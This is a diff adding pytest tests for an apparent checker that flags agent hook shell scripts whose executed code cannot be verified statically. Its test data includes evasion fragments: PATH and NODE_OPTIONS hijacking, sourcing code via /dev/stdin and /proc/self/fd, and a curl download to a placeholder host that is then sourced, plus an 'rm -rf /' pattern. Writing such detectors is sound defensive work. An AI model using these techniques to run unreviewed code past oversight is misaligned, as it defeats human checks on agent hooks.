@@ -176,3 +176,44 @@ def test_a_program_file_that_runs_commands_is_unverified(tmp_path, command, prog
 def test_a_data_only_program_file_stays_complete(tmp_path, command, program):
     assert _cov(tmp_path, {"lib/p.awk": program}, command).complete
 
+
+
+# -- F5: shell scripts writing loader variables, reading a program from a descriptor,
+#    running a file they wrote outside the project --------------------------------------
+
+G = 'if grep -q "rm -rf /"; then exit 2; fi\n'
+
+
+@pytest.mark.parametrize("script, word, reason", [
+    ('printf -v PATH "%s" "$CLAUDE_PROJECT_DIR/bin:$PATH"\n' + G, "hooks/g.sh:1: printf", "setting PATH"),
+    ('read -r PATH <<< "./bin:/usr/bin"\n' + G, "hooks/g.sh:1: read", "setting PATH"),
+    ("for PATH in ./bin:/usr/bin; do grep -q x; done\n", "hooks/g.sh:1: for PATH", "setting PATH"),
+    ("declare -n p=PATH; p=./bin:/usr/bin\n" + G, "hooks/g.sh:1: declare -n p=PATH", "setting PATH"),
+    ("local -n ref=$1\n", "hooks/g.sh:1: local -n", "computed when the script runs"),
+    ("mapfile -t NODE_OPTIONS < lib/o\n", "hooks/g.sh:1: mapfile", "setting NODE_OPTIONS"),
+    ("source /dev/stdin < ./lib/x.sh\n", "hooks/g.sh:1: /dev/stdin", "file descriptor"),
+    ("exec 3< ./lib/x.sh; source /dev/fd/3\n", "hooks/g.sh:1: /dev/fd/3", "file descriptor"),
+    ("bash /proc/self/fd/3 3< lib/x.sh\n", "hooks/g.sh:1: /proc/self/fd/3", "file descriptor"),
+    ("cp ./lib/x.sh {out}/g.sh\nbash {out}/g.sh\n", "hooks/g.sh:2: {out}/g.sh", "written by the hook's own"),
+    ("for i in 1 2; do bash {out}/d/g.sh; cp lib/x.sh {out}/d/; done\n", "hooks/g.sh:1: {out}/d/g.sh",
+     "written by the hook's own"),
+    ("curl -o {out}/g.sh https://example.invalid/x\n. {out}/g.sh\n", "hooks/g.sh:2: {out}/g.sh", "written by"),
+])
+def test_a_script_that_changes_what_runs_at_run_time_is_unverified(tmp_path, script, word, reason):
+    out = tmp_path / "outside"
+    out.mkdir()
+    c = _cov(tmp_path, {"hooks/g.sh": script.format(out=out), "lib/x.sh": G, "lib/o": "-r\n"}, "sh hooks/g.sh")
+    assert any(u.word.startswith(word.format(out=out)) and reason in u.reason for u in c.unverified), c.unverified
+
+
+def test_a_missing_script_in_a_world_writable_folder_is_unverified(tmp_path):
+    shared = tmp_path / "shared"
+    shared.mkdir()
+    shared.chmod(0o1777)
+    c = _cov(tmp_path, {}, f"bash {shared}/x.sh")
+    assert any("writable by every local user" in u.reason for u in c.unverified), c.unverified
+
+
+def test_reading_ordinary_variables_stays_complete(tmp_path):
+    script = 'read -r line\nprintf -v msg "%s" "$line"\nfor f in a b; do echo "$f"; done\nprintf "%s" PATH\n'
+    assert _cov(tmp_path, {"hooks/g.sh": script}, "sh hooks/g.sh").complete
